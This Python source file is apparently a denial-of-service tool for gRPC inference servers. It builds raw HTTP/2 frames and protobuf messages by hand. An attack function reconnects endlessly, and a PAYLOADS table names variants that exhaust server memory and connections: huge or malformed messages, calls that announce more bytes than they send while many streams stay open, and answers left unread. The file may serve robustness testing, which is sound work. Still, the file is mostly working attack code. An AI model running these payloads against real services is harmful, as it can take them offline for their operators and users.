"""gRPC calls as raw HTTP/2 frames: complete, unfinished, many on a connection, unread."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from enum import IntEnum

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = b"/inference.GRPCInferenceService/ModelInfer"
STREAMED = b"/inference.GRPCInferenceService/ModelStreamInfer"
FRAME_BYTES = 16_384
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_MESSAGE_BYTES = 8 << 20
ECHOED_BYTES = 50_000
"""An identifier, which the answer repeats: more than what an answer of the sample takes."""


class Kind(IntEnum):
    """Frames that are used here."""

    DATA = 0
    HEADERS = 1
    RESET = 3
    SETTINGS = 4
    PING = 6
    GOAWAY = 7
    WINDOW = 8


@dataclass(frozen=True, slots=True, kw_only=True)
class Calls:
    """The calls of one connection."""

    message: bytes
    method: bytes = METHOD
    messages: int = 1
    """Messages of a call; a call of several stays open for more."""
    declared_bytes: int | None = None
    """Announced size of the message; more than it has leaves the call unfinished."""
    streams: int = 1
    window: int = 65_535
    """For answers; 0: nothing is read."""


def frame(kind: Kind, flags: int, stream: int, body: bytes = b"") -> bytes:
    """Return a frame."""
    return (
        struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body
    )


def headers(method: bytes) -> bytes:
    """Return the head of a call, uncompressed and without indexing."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", method),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
    return b"".join(
        b"\x00" + bytes((len(name),)) + name + bytes((len(value),)) + value
        for name, value in fields
    )


async def attack(host: str, port: int, calls: Calls) -> None:
    """Make the calls as flow control allows; connect again whenever the server closes."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(host, port)
            try:
                await _Connection(reader, writer, calls).run()
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.05)


class _Connection:
    """One connection; finished calls are made again."""

    def __init__(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, calls: Calls
    ) -> None:
        self._reader, self._writer, self._calls = reader, writer, calls
        size = len(calls.message) if calls.declared_bytes is None else calls.declared_bytes
        self._data = (b"\x00" + struct.pack(">I", size) + calls.message) * calls.messages
        self._unfinished = size > len(calls.message) or calls.messages > 1
        self._next = 1
        self._left: dict[int, int] = {}
        """Bytes sent of each open call."""
        self._room: dict[int, int] = {}
        self._window, self._initial = 65_535, 65_535

    async def run(self) -> None:
        """Send, and take the server's frames."""
        settings = struct.pack(">HI", 4, self._calls.window)
        self._writer.write(PREFACE + frame(Kind.SETTINGS, 0, 0, settings))
        for _ in range(self._calls.streams):
            self._begin()
        while True:
            await self._send()
            head = await self._reader.readexactly(9)
            length = int.from_bytes(head[:3])
            stream = int.from_bytes(head[5:]) & 0x7FFF_FFFF
            self._take(head[3], head[4], stream, await self._reader.readexactly(length))

    def _begin(self) -> None:
        stream, self._next = self._next, self._next + 2
        self._left[stream], self._room[stream] = 0, self._initial
        self._writer.write(frame(Kind.HEADERS, END_HEADERS, stream, headers(self._calls.method)))

    async def _send(self) -> None:
        for stream, begun in list(self._left.items()):
            sent = begun
            while True:
                size = min(FRAME_BYTES, len(self._data) - sent, self._room[stream], self._window)
                if size <= 0:
                    break
                part = self._data[sent : sent + size]
                sent += size
                last = sent == len(self._data) and not self._unfinished
                self._writer.write(frame(Kind.DATA, END_STREAM * last, stream, part))
                self._room[stream] -= size
                self._window -= size
                await self._writer.drain()
            self._left[stream] = sent

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        if kind == Kind.SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", body):
                if name == 4:
                    for one in self._room:
                        self._room[one] += value - self._initial
                    self._initial = value
            self._writer.write(frame(Kind.SETTINGS, ACK, 0))
        elif kind == Kind.PING and not flags & ACK:
            self._writer.write(frame(Kind.PING, ACK, 0, body))
        elif kind == Kind.WINDOW:
            more = int.from_bytes(body)
            if stream:
                self._room[stream] = self._room.get(stream, 0) + more
            else:
                self._window += more
        elif kind == Kind.GOAWAY:
            raise ConnectionResetError("the server closes")
        elif kind == Kind.DATA and self._calls.window:
            read = struct.pack(">I", max(1, len(body)))
            self._writer.write(frame(Kind.WINDOW, 0, 0, read))
        if kind == Kind.RESET or (kind in (Kind.HEADERS, Kind.DATA) and flags & END_STREAM):
            self._left.pop(stream, None)
            self._room.pop(stream, None)
            self._begin()


def field(number: int, data: bytes) -> bytes:
    """Return a field of bytes of a message."""
    return varint(number << 3 | 2) + varint(len(data)) + data


def varint(value: int) -> bytes:
    """Return a number as it is on the wire."""
    said = bytearray()
    while value > 0x7F:
        said.append(value & 0x7F | 0x80)
        value >>= 7
    said.append(value)
    return bytes(said)


def request(elements: int, items: int, *, raw: bool) -> bytes:
    """Return the largest valid message, its numbers as raw contents or as contents."""
    data = struct.pack("<d", 0.5) * elements * items
    shape = field(3, varint(items) + varint(elements))
    contents = b"" if raw else field(5, field(7, data))
    tensor = field(1, b"x") + field(2, b"FP64") + shape + contents
    return field(1, b"m") + field(5, tensor) + (field(7, data) if raw else b"")


def _filler(size: int) -> bytes:
    return field(1, b"m") + field(7, bytes(size))


PAYLOADS: dict[str, Callable[[int, int], Calls]] = {
    "gRPC raw": lambda n, items: Calls(message=request(n, items, raw=True)),
    "gRPC contents": lambda n, items: Calls(message=request(n, items, raw=False)),
    "gRPC fields": lambda _, __: Calls(message=field(1, b"m") + b"\x2a\x00" * 4_000_000),
    "gRPC parameters": lambda _, __: Calls(
        message=field(1, b"m") + field(5, field(1, b"x") + field(4, field(1, b"k")) * 1_000_000)
    ),
    "gRPC shape": lambda _, __: Calls(message=field(5, field(3, b"\x01" * 8_000_000))),
    "gRPC filler": lambda _, __: Calls(message=_filler(MAX_MESSAGE_BYTES - 1000)),
    "gRPC unfinished": lambda _, __: Calls(
        message=_filler(7 << 20), declared_bytes=MAX_MESSAGE_BYTES, streams=4
    ),
    "gRPC streams": lambda _, __: Calls(
        message=_filler(60_000), declared_bytes=MAX_MESSAGE_BYTES, streams=90
    ),
    "gRPC stream parts": lambda _, __: Calls(
        method=STREAMED, message=_filler(7 << 20), declared_bytes=MAX_MESSAGE_BYTES, streams=4
    ),
    "gRPC stream answers": lambda n, _: Calls(
        method=STREAMED,
        message=request(n, 1, raw=True) + field(3, b"i" * ECHOED_BYTES),
        messages=100,
        streams=4,
        window=0,
    ),
    "gRPC unread": lambda n, items: Calls(
        message=request(n, items, raw=True), streams=20, window=0
    ),
}
"""By name, for a model with so many numbers per item and so many items per batch."""
